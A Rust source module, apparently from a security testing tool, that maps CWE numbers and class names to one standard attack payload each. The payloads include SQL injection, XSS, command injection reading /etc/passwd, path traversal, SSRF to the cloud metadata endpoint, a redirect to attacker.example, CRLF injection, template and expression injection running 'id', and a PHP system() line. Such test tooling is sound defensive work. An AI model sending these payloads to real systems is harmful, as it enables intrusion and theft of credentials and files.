//! What stands for an attack where a source names the parameter and the weakness, but not
//! what is sent: one plain specimen of each class.

/// Numbers of the Common Weakness Enumeration, words for them, and what attacks of them are like.
const ALL: &[(&[u32], &[&str], &str)] = &[
    (
        &[89, 564],
        &["sqli"],
        "1' UNION SELECT username, password FROM users-- -",
    ),
    (
        &[79, 80, 81, 83, 84, 85, 87, 116],
        &["xss"],
        "<script>alert(1)</script>",
    ),
    (&[77, 78, 88], &["cmdi"], ";cat /etc/passwd"),
    (
        &[22, 23, 24, 27, 29, 35, 36, 73, 98],
        &["lfi", "traversal", "lfr", "fileread"],
        "../../../../etc/passwd",
    ),
    (
        &[918, 441],
        &["ssrf"],
        "http://169.254.169.254/latest/meta-data/",
    ),
    (
        &[601],
        &["redirect", "open-redirect"],
        "https://attacker.example/",
    ),
    (&[93, 113], &["crlf"], "x\r\nSet-Cookie: session=attacker"),
    (&[1336], &["ssti"], "{{7*7}}"),
    (
        &[917],
        &["ognl", "spel"],
        "${T(java.lang.Runtime).getRuntime().exec('id')}",
    ),
    (&[94, 95, 96], &[], "<?php system('id'); ?>"),
    (
        &[502],
        &[],
        "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3Rvcg==",
    ),
];

/// The specimen of the first weakness that has one, `CWE-89` and the like.
pub(super) fn of(cwe: &[String]) -> Option<&'static str> {
    cwe.iter().find_map(|cwe| {
        let number: u32 = cwe.trim_start_matches("CWE-").parse().ok()?;
        let found = ALL.iter().find(|(numbers, ..)| numbers.contains(&number));
        found.map(|(.., specimen)| *specimen)
    })
}

/// The specimen of the first class that one of these words is for.
pub(super) fn hinted(hints: &[String]) -> Option<&'static str> {
    hints.iter().find_map(|hint| {
        let found = ALL
            .iter()
            .find(|(_, words, _)| words.contains(&hint.as_str()));
        found.map(|(.., specimen)| *specimen)
    })
}
